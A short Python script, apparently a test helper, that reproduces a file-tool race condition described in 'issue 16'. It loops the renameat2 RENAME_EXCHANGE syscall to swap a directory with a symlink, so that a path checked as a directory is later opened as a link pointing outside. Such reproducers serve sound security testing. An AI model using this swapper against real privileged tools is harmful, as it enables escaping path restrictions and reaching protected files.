"""Swap two names in the current directory as fast as the kernel allows, until killed.

The attack on the file tools from issue 16: `renameat2(RENAME_EXCHANGE)`
exchanges a real directory and a symlink to somewhere outside in one step, so
a path checked while it was the directory is opened while it is the link.
Run as `python swapper.py NAME OTHER`; it prints `ready` once the first swap
has happened, and the number of swaps when it gets SIGTERM.
"""

from __future__ import annotations

import ctypes
import os
import platform
import signal
import sys

SYS_RENAMEAT2 = {"x86_64": 316, "aarch64": 276}
AT_FDCWD = -100
RENAME_EXCHANGE = 2


def main() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    number = SYS_RENAMEAT2[platform.machine()]
    first, second = (name.encode() for name in sys.argv[1:3])
    swaps = 0

    def stop(signum: int, frame: object) -> None:
        print(swaps, flush=True)
        sys.exit(0)

    signal.signal(signal.SIGTERM, stop)
    while True:
        if libc.syscall(number, AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE) != 0:
            sys.exit(f"renameat2 failed: {os.strerror(ctypes.get_errno())}")
        swaps += 1
        if swaps == 1:
            print("ready", flush=True)


if __name__ == "__main__":
    main()
